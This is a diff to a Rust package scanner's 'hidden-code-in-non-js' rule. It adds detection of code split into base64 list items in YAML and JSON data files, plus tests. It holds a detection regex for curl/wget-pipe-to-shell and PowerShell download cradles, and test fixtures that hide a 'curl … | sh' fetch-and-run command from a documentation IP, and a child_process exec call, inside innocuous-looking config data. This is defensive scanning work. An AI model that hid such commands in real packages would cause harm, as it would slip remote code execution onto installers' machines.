@@ -10,8 +10,9 @@ crate::declare_rule! {
     /// Code where nobody looks: script text or base64-encoded code inside images and other data
     /// files, long runs of invisible Unicode (variation selectors, tag characters, zero-width
     /// characters) that decode to a payload, and code pushed off-screen by hundreds of spaces on
-    /// one line, and code the package decrypts out of one of its data files with an XOR key
-    /// written in its code (the engine's `(decrypted)` virtual files).
+    /// one line, code split into base64 list items of a data file (critical when it joins back
+    /// to a download-and-run command), and code the package decrypts out of one of its data
+    /// files with an XOR key written in its code (the engine's `(decrypted)` virtual files).
     id: "hidden-code-in-non-js",
     category: Other,
     severity: High,
@@ -132,6 +133,74 @@ fn encoded_code(text: &str) -> Option<String> {
                 && looks_like_code(&t)
             {
                 return Some(t);
+            }
+        }
+    }
+    None
+}
+
+/// Code split into the items of a list in a data file (YAML `- item` lines, a JSON array of
+/// strings), each item base64 of one piece or one piece of a base64 text: what a loader joins
+/// back at run time (`cfg.keys.map(atob).join('')`). With the decoded text and whether it is a
+/// download-and-run command (`curl … | sh`, a PowerShell cradle).
+fn fragmented_code(path: &str, text: &str) -> Option<(String, bool)> {
+    if text.len() > 512 * 1024 {
+        return None;
+    }
+    let p = path.to_ascii_lowercase();
+    let yaml = p.ends_with(".yml") || p.ends_with(".yaml");
+    if !yaml && !p.ends_with(".json") {
+        return None;
+    }
+    let yaml_item =
+        crate::regex!(r#"(?m)^[ \t]*-[ \t]+['"]?([A-Za-z0-9+/]{2,}={0,2})['"]?[ \t]*\r?$"#);
+    let json_list = crate::regex!(
+        r#"\[\s*"[A-Za-z0-9+/]{2,}={0,2}"(?:\s*,\s*"[A-Za-z0-9+/]{2,}={0,2}"){2,}\s*\]"#
+    );
+    let json_item = crate::regex!(r#""([A-Za-z0-9+/]{2,}={0,2})""#);
+    let mut groups: Vec<Vec<&str>> = Vec::new();
+    // Consecutive YAML items form one list.
+    let mut cur: Vec<&str> = Vec::new();
+    let mut last_end = None;
+    for c in yaml_item.captures_iter(if yaml { text } else { "" }) {
+        let (Some(m), Some(item)) = (c.get(0), c.get(1)) else {
+            continue;
+        };
+        let next_line = last_end
+            .is_some_and(|e: usize| text.get(e..m.start()).is_some_and(|g| g.trim().is_empty()));
+        if !next_line && !cur.is_empty() {
+            groups.push(std::mem::take(&mut cur));
+        }
+        cur.push(item.as_str());
+        last_end = Some(m.end());
+    }
+    groups.push(cur);
+    for m in json_list.find_iter(if yaml { "" } else { text }).take(64) {
+        groups.push(
+            json_item
+                .captures_iter(m.as_str())
+                .filter_map(|c| c.get(1))
+                .map(|x| x.as_str())
+                .collect(),
+        );
+    }
+    for g in groups.iter().filter(|g| g.len() >= 3) {
+        // Each item decoded on its own, or the items joined and then decoded.
+        let each: Option<String> = g
+            .iter()
+            .map(|i| decode::base64_bytes(i).and_then(|b| decode::loose_text(&b)))
+            .collect();
+        let joined = decode::base64_bytes(&g.concat()).and_then(|b| decode::loose_text(&b));
+        for t in [each, joined].into_iter().flatten() {
+            if t.len() < 16 {
+                continue;
+            }
+            let runs = crate::regex!(
+                r"(?i)\b(curl|wget)\b[^|;&\n]{0,200}\|\s*(sudo\s+)?(sh|bash|zsh|dash|node|python3?|perl)\b|\b(iex|invoke-expression)\b[^\n]{0,200}download|download(string|data)[^\n]{0,200}\b(iex|invoke-expression)\b"
+            )
+            .is_match(&t);
+            if runs || looks_like_code(&t) {
+                return Some((t, runs));
             }
         }
     }
@@ -293,6 +362,22 @@ fn check(pkg: &Package, out: &mut Emitter) {
                         Severity::High,
                         &f.path,
                         "a data or documentation file carries base64- or hex-encoded code",
+                        crate::package::one_line(&t),
+                    );
+                    continue;
+                }
+                if matches!(f.kind, FileKind::Json | FileKind::Text)
+                    && let Some((t, runs)) = fragmented_code(&f.path, &f.text)
+                {
+                    let (sev, what) = if runs {
+                        (Severity::Critical, "a download-and-run command")
+                    } else {
+                        (Severity::High, "code")
+                    };
+                    out.whole(
+                        sev,
+                        &f.path,
+                        format!("a data file carries {what} split into base64 list items"),
                         crate::package::one_line(&t),
                     );
                     continue;
@@ -486,5 +571,51 @@ mod scan_tests {
         let mut out = Emitter::new(&META);
         check(&pkg, &mut out);
         assert!(out.hits.is_empty(), "{:?}", out.hits);
+    }
+}
+
+#[cfg(test)]
+mod fragment_tests {
+    use super::fragmented_code;
+    use base64::Engine;
+
+    fn b64(s: &str) -> String {
+        base64::engine::general_purpose::STANDARD.encode(s)
+    }
+
+    #[test]
+    fn yaml_items_that_decode_to_curl_pipe_sh_are_a_download_and_run() {
+        let cmd = "curl -fsSL http://203.0.113.41/r/ci.sh | sh >/dev/null 2>&1 &";
+        let items: String = cmd
+            .as_bytes()
+            .chunks(14)
+            .map(|c| format!("    - {}\n", b64(std::str::from_utf8(c).unwrap())))
+            .collect();
+        let yml = format!("columns: 100\ncache:\n  keys:\n{items}annotations:\n  github: true\n");
+        assert_eq!(
+            fragmented_code("config/defaults.yml", &yml).map(|(_, runs)| runs),
+            Some(true)
+        );
+    }
+
+    #[test]
+    fn a_json_array_of_base64_pieces_of_code_is_found() {
+        let code = b64("require('child_process').exec(process.env.CMD)");
+        let parts: Vec<String> = code
+            .as_bytes()
+            .chunks(12)
+            .map(|c| format!("\"{}\"", std::str::from_utf8(c).unwrap()))
+            .collect();
+        let json = format!("{{\"salt\": [{}]}}", parts.join(", "));
+        assert_eq!(
+            fragmented_code("data/salt.json", &json).map(|(_, runs)| runs),
+            Some(false)
+        );
+    }
+
+    #[test]
+    fn lists_of_hashes_and_words_are_not_code() {
+        let yml = "integrity:\n  - sha512AbCdEfGh0123456789+/xyz=\n  - QmFzZTY0IGlzIG5vdCBjb2Rl\n  - aGVsbG8gd29ybGQ=\nnames:\n  - alpha\n  - beta\n  - gamma\n";
+        assert!(fragmented_code("meta.yml", yml).is_none());
     }
 }
